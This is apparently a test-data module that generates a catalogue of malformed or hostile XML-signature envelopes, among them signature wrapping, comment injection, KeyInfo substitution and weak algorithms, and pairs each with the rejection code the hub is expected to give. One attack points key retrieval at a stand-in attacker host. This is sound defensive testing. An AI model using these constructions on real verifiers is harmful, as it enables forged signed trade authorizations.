"""The attack catalogue: hostile or malformed envelopes, each built from a freshly signed message.

``build(name, keys, now)`` returns the exact bytes of one attack, signed with ``keys`` and dated
``now``: tests/broker/test_attacks.py calls it with the hub's own keys, so every attack reaches the
hub freshly signed and within the replay window. ``python -m tests.data.attacks.generate`` rewrites
the sample files beside this module and index.csv with a fixed test key at a fixed time (ECDSA with
RFC 6979 nonces, RSA PKCS#1 v1.5), so the output is the same on every run and can be read and diffed.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import random
import uuid
from collections.abc import Callable, Iterable, Sequence
from copy import deepcopy
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID
from lxml import etree

from certs.keys import PrivateKey
from certs.signer import FileSigner, Signer
from gateway.envelope import body_document, build_envelope, read_header
from gateway.reading import DOCUMENT_NS, DSIG_NS, ENVELOPE_NS, parse_xml
from tests.support.pki import EXAMPLES

HERE = Path(__file__).resolve().parent
INDEX = HERE / "index.csv"
MAX_BYTES = 1024 * 1024  # the hub's default limit (settings.max_message_bytes)
FIXED_NOW = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)  # the CreatedAt of the contract's example

ACCEPTED = "ACCEPTED"  # the expected outcome of a positive control

# Algorithm identifiers (XML-DSig 1.1, RFC 6931).
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_C14N_WITH_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"

DSIG11_NS = "http://www.w3.org/2009/xmldsig11#"
XSI_NS = "http://www.w3.org/2001/XMLSchema-instance"
XSL_NS = "http://www.w3.org/1999/XSL/Transform"
XINCLUDE_NS = "http://www.w3.org/2001/XInclude"

_HASHES: dict[str, hashes.HashAlgorithm] = {
    ECDSA_SHA256: hashes.SHA256(),
    RSA_SHA1: hashes.SHA1(),
    HMAC_SHA1: hashes.SHA1(),
    HMAC_SHA256: hashes.SHA256(),
    SHA256: hashes.SHA256(),
    SHA1: hashes.SHA1(),
    MD5: hashes.MD5(),
}


def _ds(name: str) -> str:
    return f"{{{DSIG_NS}}}{name}"


def _env(name: str) -> str:
    return f"{{{ENVELOPE_NS}}}{name}"


def _doc(name: str) -> str:
    return f"{{{DOCUMENT_NS}}}{name}"


# --------------------------------------------------------------------------------------------
# Who signs
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Keys:
    """The sender's keys: its ECDSA signing key and chain, and an RSA key certified for the same sender."""

    signer: Signer
    rsa_signer: Signer


def _derived_ec_key(label: str) -> ec.EllipticCurvePrivateKey:
    """A P-256 key that is the same on every run: test material, never a real key."""
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    scalar = int.from_bytes(hashlib.sha256(label.encode()).digest()) % (order - 1) + 1
    return ec.derive_private_key(scalar, ec.SECP256R1())


def _derived_rsa_key(label: str, bits: int = 2048) -> rsa.RSAPrivateKey:
    """An RSA key that is the same on every run (a seeded prime search): test material, never a real key."""
    rng = random.Random(label)

    def probable_prime(n: int) -> bool:
        if any(n % p == 0 for p in (3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47)):
            return False
        d, r = n - 1, 0
        while d % 2 == 0:
            d, r = d // 2, r + 1
        for _ in range(40):
            x = pow(rng.randrange(2, n - 2), d, n)
            if x in (1, n - 1):
                continue
            for _ in range(r - 1):
                x = pow(x, 2, n)
                if x == n - 1:
                    break
            else:
                return False
        return True

    e, primes = 65537, []
    while len(primes) < 2:
        candidate = rng.getrandbits(bits // 2) | (3 << (bits // 2 - 2)) | 1
        if candidate % e != 1 and probable_prime(candidate):
            primes.append(candidate)
    p, q = primes
    d = pow(e, -1, (p - 1) * (q - 1))
    public = rsa.RSAPublicNumbers(e, p * q)
    numbers = rsa.RSAPrivateNumbers(
        p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q), rsa.rsa_crt_iqmp(p, q), public
    )
    return numbers.private_key()


def _fixed_certificate(
    common_name: str, public_key: ec.EllipticCurvePublicKey | rsa.RSAPublicKey, serial: int, issuer: x509.Name | None
) -> x509.Certificate:
    subject = x509.Name(
        [
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "I2ES attack catalogue (test material)"),
            x509.NameAttribute(NameOID.COMMON_NAME, common_name),
        ]
    )
    is_ca = issuer is None
    builder = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer or subject)
        .public_key(public_key)
        .serial_number(serial)
        .not_valid_before(datetime(2026, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2036, 1, 1, tzinfo=UTC))
        .add_extension(x509.BasicConstraints(ca=is_ca, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(
                digital_signature=not is_ca,
                content_commitment=False,
                key_encipherment=False,
                data_encipherment=False,
                key_agreement=False,
                key_cert_sign=is_ca,
                crl_sign=is_ca,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
    )
    return builder.sign(_derived_ec_key("CA"), hashes.SHA256(), ecdsa_deterministic=True)


def fixed_keys() -> Keys:
    """DE's keys for the sample files: a fixed test CA, a fixed P-256 key and a fixed RSA-2048 key."""
    authority = _fixed_certificate("Attack catalogue test CA", _derived_ec_key("CA").public_key(), 1, None)
    ec_key, rsa_key = _derived_ec_key("DE"), _derived_rsa_key("DE")
    return Keys(
        signer=FileSigner(ec_key, (_fixed_certificate("DE", ec_key.public_key(), 2, authority.subject), authority)),
        rsa_signer=FileSigner(
            rsa_key, (_fixed_certificate("DE", rsa_key.public_key(), 3, authority.subject), authority)
        ),
    )


# A key no authority vouches for: what an attacker signs with when it hopes the verifier trusts KeyInfo.
ATTACKER_KEY = _derived_ec_key("attacker")


def fixed_message_id(name: str) -> str:
    """The MessageId of a sample file: a version-4 UUID derived from the attack's name."""
    return str(uuid.UUID(bytes=hashlib.sha256(name.encode()).digest()[:16], version=4))


# --------------------------------------------------------------------------------------------
# Signing: a small XML-DSig signer that will use any algorithm, transform or KeyInfo it is given
# --------------------------------------------------------------------------------------------


def _canonical(element: etree._Element, algorithm: str) -> bytes:
    exclusive = algorithm.startswith(EXC_C14N)
    comments = algorithm.endswith("#WithComments")
    return etree.tostring(element, method="c14n", exclusive=exclusive, with_comments=comments)


def _without_signatures(element: etree._Element) -> etree._Element:
    """The enveloped-signature transform: a copy without any ds:Signature, the text after each kept."""
    copy = deepcopy(element)
    for signature in list(copy.iter(_ds("Signature"))):
        parent = signature.getparent()
        assert parent is not None
        previous = signature.getprevious()
        if signature.tail:
            if previous is not None:
                previous.tail = (previous.tail or "") + signature.tail
            else:
                parent.text = (parent.text or "") + signature.tail
        parent.remove(signature)
    return copy


def _signature_value(key: PrivateKey | bytes, method: str, data: bytes, hmac_bits: int | None) -> bytes:
    algorithm = _HASHES[method]
    if isinstance(key, bytes):
        value = hmac.new(key, data, algorithm.name).digest()
        return value[: hmac_bits // 8] if hmac_bits is not None else value
    if isinstance(key, ec.EllipticCurvePrivateKey):
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(algorithm, deterministic_signing=True)))
        size = (key.curve.key_size + 7) // 8
        return r.to_bytes(size) + s.to_bytes(size)
    return key.sign(data, padding.PKCS1v15(), algorithm)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def x509_key_info(chain: Iterable[x509.Certificate]) -> etree._Element:
    """ds:KeyInfo as the contract asks: one ds:X509Data, the signer's certificate first."""
    key_info = etree.Element(_ds("KeyInfo"), nsmap={"ds": DSIG_NS})
    data = etree.SubElement(key_info, _ds("X509Data"))
    for certificate in chain:
        etree.SubElement(data, _ds("X509Certificate")).text = _b64(certificate.public_bytes(serialization.Encoding.DER))
    return key_info


def _ec_key_value(key: ec.EllipticCurvePublicKey) -> etree._Element:
    value = etree.Element(_ds("KeyValue"), nsmap={"ds": DSIG_NS})
    ec_value = etree.SubElement(value, f"{{{DSIG11_NS}}}ECKeyValue", nsmap={"dsig11": DSIG11_NS})
    etree.SubElement(ec_value, f"{{{DSIG11_NS}}}NamedCurve", URI="urn:oid:1.2.840.10045.3.1.7")
    point = key.public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    etree.SubElement(ec_value, f"{{{DSIG11_NS}}}PublicKey").text = _b64(point)
    return value


def _transform(algorithm: str, parameter: etree._Element | None = None) -> etree._Element:
    transform = etree.Element(_ds("Transform"), Algorithm=algorithm, nsmap={"ds": DSIG_NS})
    if parameter is not None:
        transform.append(parameter)
    return transform


def sign(
    message: etree._Element,
    key: PrivateKey | bytes,
    key_info: etree._Element,
    *,
    c14n: str = EXC_C14N,
    method: str = ECDSA_SHA256,
    digest: str = SHA256,
    transforms: Sequence[etree._Element] | None = None,
    uri: str = "",
    hmac_bits: int | None = None,
    parent: etree._Element | None = None,
) -> etree._Element:
    """Append a ds:Signature to ``parent`` (the message by default) and compute it as its algorithms say.

    The message is indented first, so the samples read well; nothing is indented after signing.
    The digest is that of the referenced element, without any ds:Signature when the transforms
    remove it, canonicalized by the last c14n transform (inclusive c14n when there is none): exact
    for the transforms used here (the XSLT is an identity, the XPath filter is enveloped-signature).
    """
    transforms = list(transforms) if transforms is not None else [_transform(ENVELOPED), _transform(EXC_C14N)]
    signature = etree.Element(_ds("Signature"), nsmap={"ds": DSIG_NS})
    signed_info = etree.SubElement(signature, _ds("SignedInfo"))
    etree.SubElement(signed_info, _ds("CanonicalizationMethod"), Algorithm=c14n)
    method_element = etree.SubElement(signed_info, _ds("SignatureMethod"), Algorithm=method)
    if hmac_bits is not None:
        etree.SubElement(method_element, _ds("HMACOutputLength")).text = str(hmac_bits)
    reference = etree.SubElement(signed_info, _ds("Reference"), URI=uri)
    transforms_element = etree.SubElement(reference, _ds("Transforms"))
    transforms_element.extend(transforms)
    etree.SubElement(reference, _ds("DigestMethod"), Algorithm=digest)
    digest_value = etree.SubElement(reference, _ds("DigestValue"))
    signature_value = etree.SubElement(signature, _ds("SignatureValue"))
    signature.append(key_info)
    (message if parent is None else parent).append(signature)
    etree.indent(message, space="  ")
    signature.tail = None  # nothing after the signature: every enveloped-signature reader sees the same text

    algorithms = [t.get("Algorithm") or "" for t in transforms]
    if uri:
        referenced = message.xpath("//*[@Id=$id]", id=uri.removeprefix("#"))[0]
    else:
        referenced = _without_signatures(message) if {ENVELOPED, XPATH} & set(algorithms) else message
    final = next((a for a in reversed(algorithms) if a.startswith((EXC_C14N, C14N))), C14N)
    hasher = hashes.Hash(_HASHES[digest])
    hasher.update(_canonical(referenced, final))
    digest_value.text = _b64(hasher.finalize())
    signature_value.text = _b64(_signature_value(key, method, _canonical(signed_info, c14n), hmac_bits))
    return signature


def serialize(message: etree._Element) -> bytes:
    return bytes(etree.tostring(message, xml_declaration=True, encoding="UTF-8")) + b"\n"


# --------------------------------------------------------------------------------------------
# The message every attack starts from
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Context:
    """What one attack is built from."""

    keys: Keys
    now: datetime
    message_id: str
    max_bytes: int

    def message(self, *, message_id: str | None = None, created_at: str | None = None) -> etree._Element:
        """The contract's example ExportAuthorization from DE to CH, unsigned, with this attack's
        MessageId and CreatedAt and an authorization number of its own."""
        example = parse_xml((EXAMPLES / "ExportAuthorization.xml").read_bytes())
        header = replace(read_header(example), message_id=message_id or self.message_id, created_at=self.now)
        document = body_document(example)
        number = document.find(_doc("Number"))
        assert number is not None
        number.text = f"{number.text}-{self.message_id[:8]}"
        message = build_envelope(header, document)
        if created_at is not None:
            _find(message, "Header/CreatedAt").text = created_at
        return message

    def sign(self, message: etree._Element, **options: object) -> etree._Element:
        """Sign as the sender does: ECDSA-SHA256, SHA-256, exclusive c14n, its certificate chain."""
        sign(message, self.keys.signer.key, x509_key_info(self.keys.signer.chain), **options)
        return message

    def signed(self, **fields: str) -> etree._Element:
        return self.sign(self.message(**fields))

    def signed_bytes(self, **fields: str) -> bytes:
        return serialize(self.signed(**fields))


def _find(root: etree._Element, path: str) -> etree._Element:
    """An element by a path of local names, each in the envelope's or the documents' namespace."""
    element: etree._Element | None = root
    for name in path.split("/"):
        assert element is not None
        element = element.find(_env(name)) if element.find(_env(name)) is not None else element.find(_doc(name))
    assert element is not None, path
    return element


def _body(root: etree._Element) -> etree._Element:
    return _find(root, "Body")


def _forged(body: etree._Element) -> etree._Element:
    """A copy of a Body with a hundred times the morphine: what an attacker wants the recipient to read."""
    forged = deepcopy(body)
    item = _find(forged, "ExportAuthorization/Items/Item")
    _find(item, "Quantity").text = "50000"
    _find(item, "AnhydrousBase").text = "37603"
    return forged


def _place(parent: etree._Element, index: int, element: etree._Element) -> None:
    """Insert ``element`` at ``index`` with the indentation of its neighbours, so the sample still reads well."""
    children = list(parent)
    if index < len(children):
        element.tail = parent.text if index == 0 else children[index - 1].tail
    else:  # the new last child takes the closing indentation; the old last one gets a sibling's
        element.tail = children[-1].tail if children else None
        if children:
            children[-1].tail = parent.text
    parent.insert(index, element)


def _with_prolog(data: bytes, prolog: bytes) -> bytes:
    """Insert ``prolog`` between the XML declaration and the root element."""
    declaration, rest = data.split(b"\n", 1)
    return declaration + b"\n" + prolog + rest


def _point_of_exit(data: bytes, content: bytes) -> bytes:
    """Serialized bytes with the text of PointOfExit replaced by ``content`` (markup or entity references)."""
    start, end = data.index(b"<PointOfExit>") + len(b"<PointOfExit>"), data.index(b"</PointOfExit>")
    return data[:start] + content + data[end:]


def _fill(size: int, make: Callable[[int], bytes]) -> bytes:
    """``make(n)`` grows by exactly n bytes with n: find the n that makes it exactly ``size`` bytes."""
    data = make(size - len(make(0)))
    assert len(data) == size, (len(data), size)
    return data


# --------------------------------------------------------------------------------------------
# The catalogue
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    expected: str  # the contract's reason code, or ACCEPTED for a positive control
    description: str
    make: Callable[[Context], bytes]


ATTACKS: dict[str, Attack] = {}


Make = Callable[[Context], bytes]


def _attack(name: str, expected: str, description: str) -> Callable[[Make], Make]:
    def register(make: Make) -> Make:
        assert name not in ATTACKS, name
        ATTACKS[name] = Attack(name, expected, " ".join(description.split()), make)
        return make

    return register


# Signature wrapping (McIntosh & Austel 2005; XSW1-XSW8 of Somorovsky et al. 2012), adapted to the
# envelope: the signature covers the whole Message (URI=""), so each variant moves the signed
# Message, Header or Body somewhere a careless reader would not look and shows a forged one instead.


@_attack(
    "xsw1-original-message-inside-signature",
    "SIGNATURE_INVALID",
    """XSW1: a forged Message (a hundred times the morphine) keeps the original's ds:Signature, and the
    original signed Message is moved inside that ds:Signature, where a verifier that looks for "the signed
    element" finds it.""",
)
def _xsw1(ctx: Context) -> bytes:
    original = ctx.signed()
    forged = deepcopy(original)
    forged.replace(_body(forged), _forged(_body(original)))
    signature = forged[-1]
    _place(signature, len(signature), _without_signatures(original))
    return serialize(forged)


@_attack(
    "xsw2-original-message-beside-signature",
    "SCHEMA_INVALID",
    """XSW2: a forged Message holds the original signed Message (its signature detached) as a sibling just
    before the ds:Signature.""",
)
def _xsw2(ctx: Context) -> bytes:
    original = ctx.signed()
    forged = deepcopy(original)
    forged.replace(_body(forged), _forged(_body(original)))
    _place(forged, len(forged) - 1, _without_signatures(original))
    return serialize(forged)


@_attack(
    "xsw3-forged-body-before-signed-body",
    "SCHEMA_INVALID",
    """XSW3: a forged Body is inserted before the signed one; a reader that takes the first Body reads the
    forgery, the verifier digests the whole Message.""",
)
def _xsw3(ctx: Context) -> bytes:
    message = ctx.signed()
    _place(message, 1, _forged(_body(message)))
    return serialize(message)


@_attack(
    "xsw4-signed-body-inside-forged-body",
    "SCHEMA_INVALID",
    """XSW4: the signed Body becomes a child of a forged Body that takes its place.""",
)
def _xsw4(ctx: Context) -> bytes:
    message = ctx.signed()
    original = _body(message)
    forged = _forged(original)
    message.replace(original, forged)
    _place(forged, len(forged), original)
    return serialize(message)


@_attack(
    "xsw5-original-body-copy-after-signature",
    "SCHEMA_INVALID",
    """XSW5: the Body in the signed position is forged and an unchanged copy of the original Body is appended
    after the ds:Signature, for a verifier that digests "the Body" wherever it is.""",
)
def _xsw5(ctx: Context) -> bytes:
    message = ctx.signed()
    original = _body(message)
    message.replace(original, _forged(original))
    _place(message, len(message), original)
    return serialize(message)


@_attack(
    "xsw6-original-body-inside-signature",
    "SIGNATURE_INVALID",
    """XSW6: the Body is forged and the original Body is moved inside the ds:Signature (after KeyInfo).""",
)
def _xsw6(ctx: Context) -> bytes:
    message = ctx.signed()
    original = _body(message)
    message.replace(original, _forged(original))
    signature = message[-1]
    _place(signature, len(signature), original)
    return serialize(message)


@_attack(
    "xsw7-original-body-in-extension-element",
    "SCHEMA_INVALID",
    """XSW7: the original Body is kept inside an extension element (a foreign namespace, as SAML's
    Extensions) at the end of the Header, and a forged Body is shown.""",
)
def _xsw7(ctx: Context) -> bytes:
    message = ctx.signed()
    original = _body(message)
    message.replace(original, _forged(original))
    header = _find(message, "Header")
    extensions = etree.Element("{urn:example:extensions}Extensions", nsmap={"ext": "urn:example:extensions"})
    extensions.text = header.text
    extensions.append(original)
    _place(header, len(header), extensions)
    return serialize(message)


@_attack(
    "xsw8-original-body-in-signature-object",
    "SIGNATURE_INVALID",
    """XSW8: the original Body is kept in a ds:Object inside the ds:Signature, and a forged Body is shown.""",
)
def _xsw8(ctx: Context) -> bytes:
    message = ctx.signed()
    original = _body(message)
    message.replace(original, _forged(original))
    signature = message[-1]
    holder = etree.Element(_ds("Object"))
    holder.append(original)
    _place(signature, len(signature), holder)
    return serialize(message)


@_attack(
    "wrap-signed-message-in-new-root",
    "SCHEMA_INVALID",
    """The signed Message, untouched, becomes the child of a new root element in another namespace.""",
)
def _new_root(ctx: Context) -> bytes:
    wrapper = etree.Element("{urn:example:wrapper}Envelope", nsmap={None: "urn:example:wrapper"})  # type: ignore[dict-item]
    wrapper.text = "\n  "
    wrapper.append(ctx.signed())
    wrapper[0].tail = "\n"
    return serialize(wrapper)


@_attack(
    "wrap-signed-message-in-header",
    "SCHEMA_INVALID",
    """The signed Message, untouched, is moved into the Header of a forged, unsigned Message (sent to IN,
    a hundred times the morphine).""",
)
def _in_header(ctx: Context) -> bytes:
    original = ctx.signed()
    forged = ctx.message()
    _find(forged, "Header/To").text = "IN"
    forged.replace(_body(forged), _forged(_body(original)))
    etree.indent(forged, space="  ")
    header = _find(forged, "Header")
    _place(header, len(header), original)
    return serialize(forged)


@_attack(
    "wrap-signed-message-in-object",
    "SIGNATURE_INVALID",
    """The signed Message, untouched, is moved into a ds:Object, the last child of a forged unsigned
    Message: the schema lets any ds element end a Message, and the only ds:Signature verifies.""",
)
def _in_object(ctx: Context) -> bytes:
    original = ctx.signed()
    forged = ctx.message()
    forged.replace(_body(forged), _forged(_body(original)))
    holder = etree.SubElement(forged, _ds("Object"), nsmap={"ds": DSIG_NS})
    etree.indent(forged, space="  ")  # before the original moves in: its own text stays as it was signed
    holder.text, original.tail = "\n    ", "\n  "
    holder.append(original)
    return serialize(forged)


@_attack(
    "wrap-second-header-before",
    "SCHEMA_INVALID",
    """A forged Header (To IN) is inserted before the signed one: a reader that takes the first Header
    routes the signed document to another country.""",
)
def _header_before(ctx: Context) -> bytes:
    message = ctx.signed()
    forged = deepcopy(_find(message, "Header"))
    _find(forged, "To").text = "IN"
    _place(message, 0, forged)
    return serialize(message)


@_attack(
    "wrap-second-header-after",
    "SCHEMA_INVALID",
    """A forged Header (To IN) is inserted after the signed one: a reader that takes the last Header routes
    the signed document to another country.""",
)
def _header_after(ctx: Context) -> bytes:
    message = ctx.signed()
    forged = deepcopy(_find(message, "Header"))
    _find(forged, "To").text = "IN"
    _place(message, 1, forged)
    return serialize(message)


@_attack(
    "wrap-second-body-after",
    "SCHEMA_INVALID",
    """A forged Body is inserted after the signed one, before the ds:Signature: a reader that takes the last
    Body reads the forgery.""",
)
def _body_after(ctx: Context) -> bytes:
    message = ctx.signed()
    _place(message, 2, _forged(_body(message)))
    return serialize(message)


@_attack(
    "reference-by-id-to-body",
    "SCHEMA_INVALID",
    """The Body carries an Id attribute and the signature covers only it (Reference URI="#body"): the
    Header, and so the recipient and the MessageId, could be changed at will.""",
)
def _reference_body(ctx: Context) -> bytes:
    message = ctx.message()
    _body(message).set("Id", "body")
    ctx.sign(message, uri="#body", transforms=[_transform(EXC_C14N)])
    return serialize(message)


@_attack(
    "reference-by-id-to-key-info",
    "SIGNATURE_INVALID",
    """The signature covers only its own ds:KeyInfo (Reference URI="#key" to KeyInfo Id="key"), a valid
    signature over nothing of the message; the Body is then forged.""",
)
def _reference_key_info(ctx: Context) -> bytes:
    message = ctx.message()
    key_info = x509_key_info(ctx.keys.signer.chain)
    key_info.set("Id", "key")
    sign(message, ctx.keys.signer.key, key_info, uri="#key", transforms=[_transform(EXC_C14N)])
    message.replace(_body(message), _forged(_body(message)))
    return serialize(message)


# Comments and the place and number of signatures


@_attack(
    "comment-inside-signed-text",
    "FORBIDDEN_XML_CONSTRUCT",
    """From is D<!---->E: c14n without comments drops the comment, so the signature verifies, while a reader
    that takes the first text node sees "D" (the 2018 SAML comment attack, CVE-2017-11427 and others).""",
)
def _comment(ctx: Context) -> bytes:
    return ctx.signed_bytes().replace(b"<From>DE</From>", b"<From>D<!---->E</From>")


@_attack(
    "signature-two-side-by-side",
    "SCHEMA_INVALID",
    """Two ds:Signature elements at the end of the Message: the original, and one copied from another message
    DE signed (with a forged Body).""",
)
def _two_signatures(ctx: Context) -> bytes:
    message = ctx.signed()
    other = ctx.message()
    other.replace(_body(other), _forged(_body(other)))
    _place(message, len(message), ctx.sign(other)[-1])
    return serialize(message)


@_attack(
    "signature-second-inside-first",
    "SIGNATURE_INVALID",
    """A second ds:Signature, copied from another message DE signed, inside the first one after KeyInfo
    (where the schema does not look).""",
)
def _nested_signature(ctx: Context) -> bytes:
    message = ctx.signed()
    other = ctx.message()
    other.replace(_body(other), _forged(_body(other)))
    signature = message[-1]
    _place(signature, len(signature), ctx.sign(other)[-1])
    return serialize(message)


@_attack(
    "signature-first-child",
    "SCHEMA_INVALID",
    """The ds:Signature is moved from the end of the Message to its start.""",
)
def _signature_first(ctx: Context) -> bytes:
    message = ctx.signed()
    signature = message[-1]
    body = _body(message)
    _place(message, 0, signature)
    body.tail = None
    return serialize(message)


@_attack(
    "signature-nested-in-ds-object",
    "SIGNATURE_INVALID",
    """The Message ends with a ds:Object (allowed by the schema) and the ds:Signature sits inside it: a
    signature, but not the last child of Message.""",
)
def _signature_in_object(ctx: Context) -> bytes:
    message = ctx.message()
    holder = etree.SubElement(message, _ds("Object"), nsmap={"ds": DSIG_NS})
    ctx.sign(message, parent=holder)
    return serialize(message)


# KeyInfo: the contract takes the signer's key only from its X.509 certificate


@_attack(
    "key-info-without-certificate",
    "SIGNATURE_INVALID",
    """ds:X509Data names DE's certificate by issuer and serial number (X509IssuerSerial) but does not hold it,
    inviting the verifier to look a certificate up.""",
)
def _no_certificate(ctx: Context) -> bytes:
    certificate = ctx.keys.signer.chain[0]
    key_info = etree.Element(_ds("KeyInfo"), nsmap={"ds": DSIG_NS})
    issuer_serial = etree.SubElement(etree.SubElement(key_info, _ds("X509Data")), _ds("X509IssuerSerial"))
    etree.SubElement(issuer_serial, _ds("X509IssuerName")).text = certificate.issuer.rfc4514_string()
    etree.SubElement(issuer_serial, _ds("X509SerialNumber")).text = str(certificate.serial_number)
    message = ctx.message()
    sign(message, ctx.keys.signer.key, key_info)
    return serialize(message)


@_attack(
    "key-info-key-value-only",
    "SIGNATURE_INVALID",
    """Signed with an attacker's key that is given as a bare ds:KeyValue (dsig11:ECKeyValue): a verifier that
    trusts KeyInfo accepts any signer.""",
)
def _key_value_only(ctx: Context) -> bytes:
    key_info = etree.Element(_ds("KeyInfo"), nsmap={"ds": DSIG_NS})
    key_info.append(_ec_key_value(ATTACKER_KEY.public_key()))
    message = ctx.message()
    sign(message, ATTACKER_KEY, key_info)
    return serialize(message)


@_attack(
    "key-info-key-name-only",
    "SIGNATURE_INVALID",
    """ds:KeyInfo holds only ds:KeyName "DE": the verifier is asked to choose the key by a name the sender
    writes.""",
)
def _key_name_only(ctx: Context) -> bytes:
    key_info = etree.Element(_ds("KeyInfo"), nsmap={"ds": DSIG_NS})
    etree.SubElement(key_info, _ds("KeyName")).text = "DE"
    message = ctx.message()
    sign(message, ctx.keys.signer.key, key_info)
    return serialize(message)


@_attack(
    "key-info-retrieval-method",
    "SIGNATURE_INVALID",
    """ds:KeyInfo holds only a ds:RetrievalMethod pointing at an attacker's server: a verifier that follows it
    makes a request the sender chose and trusts whatever key comes back. Signed with the attacker's key.""",
)
def _retrieval_method(ctx: Context) -> bytes:
    key_info = etree.Element(_ds("KeyInfo"), nsmap={"ds": DSIG_NS})
    etree.SubElement(
        key_info,
        _ds("RetrievalMethod"),
        URI="https://attacker.example/DE.cer",
        Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
    )
    message = ctx.message()
    sign(message, ATTACKER_KEY, key_info)
    return serialize(message)


@_attack(
    "key-info-extra-key-value",
    "SIGNATURE_INVALID",
    """ds:KeyInfo holds DE's real certificate chain and, beside it, a ds:KeyValue with an attacker's key, which
    made the signature: a verifier that checks the signature with KeyValue and the trust with X509Data is
    fooled.""",
)
def _extra_key_value(ctx: Context) -> bytes:
    key_info = x509_key_info(ctx.keys.signer.chain)
    key_info.append(_ec_key_value(ATTACKER_KEY.public_key()))
    message = ctx.message()
    sign(message, ATTACKER_KEY, key_info)
    return serialize(message)


# Algorithms the contract does not accept


def _certificate_der(ctx: Context) -> bytes:
    return ctx.keys.signer.chain[0].public_bytes(serialization.Encoding.DER)


@_attack(
    "algorithm-hmac-keyed-with-certificate",
    "UNSUPPORTED_ALGORITHM",
    """HMAC-SHA256 keyed with the DER bytes of DE's public certificate (key confusion): anyone holding the
    certificate can compute it.""",
)
def _hmac(ctx: Context) -> bytes:
    message = ctx.message()
    sign(message, _certificate_der(ctx), x509_key_info(ctx.keys.signer.chain), method=HMAC_SHA256)
    return serialize(message)


@_attack(
    "algorithm-hmac-truncated-output",
    "UNSUPPORTED_ALGORITHM",
    """HMAC-SHA1 with HMACOutputLength 8: a one-byte signature value, guessed in 256 tries (CVE-2009-0217).""",
)
def _hmac_truncated(ctx: Context) -> bytes:
    message = ctx.message()
    sign(message, _certificate_der(ctx), x509_key_info(ctx.keys.signer.chain), method=HMAC_SHA1, hmac_bits=8)
    return serialize(message)


@_attack(
    "algorithm-digest-sha1",
    "UNSUPPORTED_ALGORITHM",
    """The Reference's digest is SHA-1 (collisions are practical since 2017); the signature is ECDSA-SHA256
    by DE.""",
)
def _sha1(ctx: Context) -> bytes:
    return serialize(ctx.sign(ctx.message(), digest=SHA1))


@_attack(
    "algorithm-digest-md5",
    "UNSUPPORTED_ALGORITHM",
    """The Reference's digest is MD5; the signature is ECDSA-SHA256 by DE.""",
)
def _md5(ctx: Context) -> bytes:
    return serialize(ctx.sign(ctx.message(), digest=MD5))


@_attack(
    "algorithm-rsa-sha1",
    "UNSUPPORTED_ALGORITHM",
    """Signed with rsa-sha1 by an RSA-2048 key certified for DE.""",
)
def _rsa_sha1(ctx: Context) -> bytes:
    message = ctx.message()
    signer = ctx.keys.rsa_signer
    sign(message, signer.key, x509_key_info(signer.chain), method=RSA_SHA1)
    return serialize(message)


_IDENTITY_XSLT = f"""<xsl:stylesheet xmlns:xsl="{XSL_NS}" version="1.0">
<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>
</xsl:stylesheet>"""


@_attack(
    "transform-xslt",
    "UNSUPPORTED_ALGORITHM",
    """An XSLT transform between enveloped-signature and exclusive c14n: a program chosen by the sender that
    the verifier would run (here an identity stylesheet, so the digest is right).""",
)
def _xslt(ctx: Context) -> bytes:
    stylesheet = etree.fromstring(_IDENTITY_XSLT)
    transforms = [_transform(ENVELOPED), _transform(XSLT, stylesheet), _transform(EXC_C14N)]
    return serialize(ctx.sign(ctx.message(), transforms=transforms))


@_attack(
    "transform-xpath",
    "UNSUPPORTED_ALGORITHM",
    """An XPath filter transform (not(ancestor-or-self::ds:Signature), the same node set as enveloped-signature)
    instead of enveloped-signature: an expression chosen by the sender that the verifier would evaluate.""",
)
def _xpath(ctx: Context) -> bytes:
    expression = etree.Element(_ds("XPath"), nsmap={"ds": DSIG_NS})
    expression.text = "not(ancestor-or-self::ds:Signature)"
    transforms = [_transform(XPATH, expression), _transform(EXC_C14N)]
    return serialize(ctx.sign(ctx.message(), transforms=transforms))


@_attack(
    "c14n-inclusive-as-canonicalization-method",
    "UNSUPPORTED_ALGORITHM",
    """SignedInfo is canonicalized with inclusive c14n 1.0, which pulls in the ancestors' namespace
